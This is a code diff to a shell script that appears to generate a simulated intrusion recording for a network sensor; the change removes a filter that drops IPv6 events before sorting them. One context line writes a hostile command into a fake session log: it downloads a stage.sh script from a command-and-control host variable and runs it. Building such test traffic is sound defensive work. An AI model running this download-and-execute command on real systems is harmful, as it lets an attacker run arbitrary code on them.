@@ -154,15 +154,13 @@ scene_login() {
     'ls -l /usr/bin | head -n 400; curl -s -O http://$c2/stage.sh && sh ./stage.sh'" >"$work/session.log"
 }
 
-# Ordered by time, one JSON object a line; the gzip header has no name and no time. IPv6 is left out: it is only the
-# links' own neighbour discovery, and its addresses spell out MAC addresses.
+# Ordered by time, one JSON object a line; the gzip header has no name and no time.
 write_recording() {
   kill -TERM $sensor
   wait $sensor || true
   python3 - "$work/eve.json" >"$work/sorted" <<'PY'
 import json, sys
 lines = [json.loads(line) for line in open(sys.argv[1])]
-lines = [event for event in lines if ":" not in event["src_ip"]]
 lines.sort(key=lambda event: event["timestamp"])
 for event in lines:
     print(json.dumps(event, separators=(",", ":")))
